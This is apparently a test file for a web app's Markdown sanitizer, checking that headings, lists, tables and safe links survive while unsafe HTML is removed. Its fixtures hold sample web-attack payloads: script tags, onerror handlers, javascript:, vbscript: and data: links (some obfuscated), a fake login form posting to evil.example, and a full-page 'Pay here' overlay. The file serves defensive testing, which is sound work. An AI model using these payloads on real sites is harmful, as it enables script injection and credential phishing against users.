import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { loadMarkdownRenderer, Markdown } from './markdown.tsx';

/** Issue 29 item 6, decision 222: staff Markdown becomes text structure and nothing else. */
describe('staff Markdown', () => {
  const html = async (markdown: string) => {
    const box = document.createElement('div');
    box.innerHTML = (await loadMarkdownRenderer())(markdown);
    return box;
  };

  it('keeps headings, paragraphs, lists, emphasis, links, images, quotes, code, tables and rules', async () => {
    const box = await html(
      [
        '# One',
        '###### Six',
        'Some *soft* and **strong** and ~~gone~~ text,  ',
        'a break.',
        '',
        '3. three',
        '4. four',
        '',
        '- a',
        '- b',
        '',
        '> quoted',
        '',
        '`code` and',
        '',
        '```',
        'block',
        '```',
        '',
        '| Left | Mid |',
        '| :--- | :-: |',
        '| 1 | 2 |',
        '',
        '---',
        '',
        '[site](/tutors) [anchor](#top) [mail](mailto:a@example.test) [web](https://example.test/x "T")',
        '![cover](https://cdn.example.test/a.jpg) ![upload](/uploads/b.png)',
      ].join('\n'),
    );
    for (const tag of ['h1', 'h6', 'p', 'em', 'strong', 'del', 'br', 'ol', 'ul', 'li', 'blockquote', 'code'])
      expect(box.querySelector(tag), tag).not.toBeNull();
    for (const tag of ['pre', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'hr'])
      expect(box.querySelector(tag), tag).not.toBeNull();
    expect(box.querySelector('ol')!.getAttribute('start')).toBe('3');
    expect(box.querySelector('th')!.getAttribute('align')).toBe('left');
    const links = [...box.querySelectorAll('a')].map((a) => [a.getAttribute('href'), a.getAttribute('rel')]);
    expect(links).toEqual([
      ['/tutors', null],
      ['#top', null],
      ['mailto:a@example.test', null],
      ['https://example.test/x', 'noopener noreferrer'],
    ]);
    expect(box.querySelector('a[title="T"]')).not.toBeNull();
    expect([...box.querySelectorAll('img')].map((i) => i.getAttribute('src'))).toEqual([
      'https://cdn.example.test/a.jpg',
      '/uploads/b.png',
    ]);
  });

  it.each([
    ['<style>', 'Hello <style>body{display:none}</style>', 'style'],
    [
      'a form',
      '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
      'form, input, button',
    ],
    ['an iframe', '<iframe src="https://evil.example/"></iframe>', 'iframe'],
    ['a script', '<script>window.hacked = 1</script>', 'script'],
    ['an object or embed', '<object data="x.swf"></object><embed src="x.swf">', 'object, embed'],
    ['SVG', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', 'svg'],
    [
      'a dialog or details',
      '<dialog open>x</dialog><details open><summary>s</summary>d</details>',
      'dialog, details',
    ],
    [
      'a link styled as a button',
      '<a href="https://x.example" class="btn" style="position:fixed;inset:0">x</a>',
      '[style], [class]',
    ],
    [
      'a full-page overlay',
      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">Pay here</div>',
      'div, [style]',
    ],
    ['an id', '<h2 id="root">x</h2>', '[id]'],
    [
      'an event handler',
      '<img src="https://x.example/a.png" onerror="window.hacked=1"><p onclick="x()">p</p>',
      '[onerror], [onclick]',
    ],
    ['data and aria attributes', '<p data-x="1" aria-hidden="true">p</p>', '[data-x], [aria-hidden]'],
    [
      'a target',
      '<a href="https://x.example" target="_blank" rel="opener">x</a>',
      '[target], [rel="opener"]',
    ],
  ])('drops %s', async (_name, markdown, selector) => {
    const box = await html(markdown);
    expect(box.querySelector(selector), box.innerHTML).toBeNull();
  });

  it('drops javascript:, data: and vbscript: links, and images not over https or from the uploads', async () => {
    const box = await html(
      [
        '[a](javascript:alert(1)) <a href="JaVaScRiPt&colon;alert(1)">b</a> [c](data:text/html;base64,PHNjcmlwdD4=)',
        '<a href="vbscript:x">d</a> <a href="//evil.example/">e</a> <a href="/\\evil.example/">f</a>',
        '![http](http://x.example/a.png) ![data](data:image/png;base64,iVBORw0KGgo=) ![js](javascript:alert(1))',
        '![rel](images/a.png) <img src="//evil.example/a.png">',
      ].join('\n\n'),
    );
    const hrefs = [...box.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual([null, null, null, null, null, null]);
    expect(box.querySelectorAll('img')).toHaveLength(0);
    // The words stay.
    expect(box.textContent).toContain('a b c');
  });

  it('renders through the component with the same rules', async () => {
    render(<Markdown markdown={'Hi <style>p{color:red}</style><b style="x">there</b>'} />);
    const text = await screen.findByText(/Hi/);
    expect(text.closest('div')!.querySelector('style, [style], b')).toBeNull();
    expect(text.closest('div')!.textContent).toContain('there');
  });
});
